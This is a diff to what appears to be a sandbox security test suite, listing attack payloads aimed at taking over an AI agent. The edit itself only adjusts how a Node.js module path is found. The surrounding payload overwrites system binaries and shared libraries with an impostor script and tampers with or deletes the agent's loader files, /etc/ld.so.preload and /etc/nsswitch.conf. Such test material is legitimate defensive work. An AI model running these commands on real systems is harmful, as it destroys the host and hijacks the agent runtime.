@@ -12,6 +12,14 @@ import {
   takeUids,
 } from "./programs.js";
 
+const { node_builtin_shareable_builtins: included = [] } = process.config.variables as {
+  readonly node_builtin_shareable_builtins?: readonly string[];
+};
+/** Debian's Node.js, and no other, has some of its own modules in files. */
+const partsOfNode = included.includes("deps/undici/undici.js")
+  ? ""
+  : "$(find /usr/share/nodejs -name '*.js' 2>/dev/null | head -n 1)";
+
 /** Attempts to control the agent, or to answer in its place. */
 export const takingOver: readonly Attack[] = [
   {
@@ -135,7 +143,7 @@ for place in / /opt /workspace /home/sandbox /tmp; do echo '{ "type": ' > $place
         `printf '#!/bin/sh\necho IMPOSTOR\n' > /tmp/impostor; chmod +x /tmp/impostor
 for program in node sh dash setpriv; do cp -f /tmp/impostor /usr/bin/other; mv -f /usr/bin/other "$(readlink -f /usr/bin/$program)"; done
 for library in /usr/lib/*/lib{stdc++,cap-ng,dl}.so.* /usr/lib64/lib{stdc++,cap-ng,dl}.so.*; do [ -e $library ] && echo broken > /usr/lib/broken && mv -f /usr/lib/broken "$library"; done
-for place in /opt/cloud-sandbox/agent/main.cjs /opt/cloud-sandbox/loader /opt/cloud-sandbox/init /opt/cloud-sandbox/openssl.cnf /etc/ld.so.preload /etc/nsswitch.conf $(find /usr/share/nodejs -name '*.js' 2>/dev/null | head -n 1); do
+for place in /opt/cloud-sandbox/agent/main.cjs /opt/cloud-sandbox/loader /opt/cloud-sandbox/init /opt/cloud-sandbox/openssl.cnf /etc/ld.so.preload /etc/nsswitch.conf ${partsOfNode}; do
   { echo x >> $place || mv -f /tmp/impostor $place || rm -f $place; } 2>/dev/null && echo "DONE $place"
 done; true`,
       );
